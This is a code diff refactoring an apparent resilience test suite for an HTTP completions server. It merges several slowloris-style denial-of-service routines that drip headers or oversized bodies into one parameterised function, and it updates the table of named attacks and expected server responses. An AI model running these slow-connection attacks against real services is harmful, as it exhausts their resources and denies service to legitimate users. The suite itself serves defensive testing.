@@ -10,6 +10,7 @@ import random
 from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
 from contextlib import asynccontextmanager, suppress
 from dataclasses import dataclass
+from functools import partial
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -192,21 +193,11 @@ async def drip_headers(victim: Victim) -> Statuses:
     return await hold(victim, NUM_SLOW, b"GET / HTTP/1.1\r\nX: ", b"a")
 
 
-async def drip_body_without_key(victim: Victim) -> Statuses:
-    start = b"POST /v1/completions HTTP/1.1\r\n"
-    start += victim.headers("Content-Length: 900000", key="wrong")
-    return await hold(victim, NUM_SLOW, start, b"a")
-
-
-async def drip_body_with_key(victim: Victim) -> Statuses:
-    start = b"POST /v1/completions HTTP/1.1\r\n" + victim.headers("Content-Length: 900000")
-    return await hold(victim, NUM_SLOW, start, b" ")
-
-
-async def drip_leftover(victim: Victim) -> Statuses:
-    """A body that follows a GET, which is answered before it arrives."""
-    start = b"GET /health HTTP/1.1\r\n" + victim.headers("Content-Length: 900000")
-    return await hold(victim, NUM_SLOW, start, b"a")
+async def drip_body(
+    victim: Victim, *, line: bytes = b"POST /v1/completions", drop: bytes, key: str | None = None
+) -> Statuses:
+    start = line + b" HTTP/1.1\r\n" + victim.headers("Content-Length: 900000", key=key)
+    return await hold(victim, NUM_SLOW, start, drop)
 
 
 async def read_nothing(victim: Victim) -> Statuses:
@@ -315,9 +306,10 @@ ATTACKS: dict[str, Attack] = {
     "unfinished characters": Attack(detokenize_bytes, REFUSED | LEFT | {"200"}),
     "idle": Attack(stay_idle, LEFT),
     "slow headers": Attack(drip_headers, LEFT),
-    "slow bodies without a key": Attack(drip_body_without_key, LEFT),
-    "slow bodies": Attack(drip_body_with_key, LEFT),
-    "leftover bodies": Attack(drip_leftover, LEFT),
+    "slow bodies without a key": Attack(partial(drip_body, drop=b"a", key="wrong"), LEFT),
+    "slow bodies": Attack(partial(drip_body, drop=b" "), LEFT),
+    # A GET is answered before its body arrives.
+    "leftover bodies": Attack(partial(drip_body, line=b"GET /health", drop=b"a"), LEFT),
     "unread answers": Attack(read_nothing, LEFT),
     "disconnects": Attack(leave_in_the_middle, REFUSED | LEFT | {"200"}),
     "half-closed": Attack(close_half, REFUSED | {"closed", "200"}),
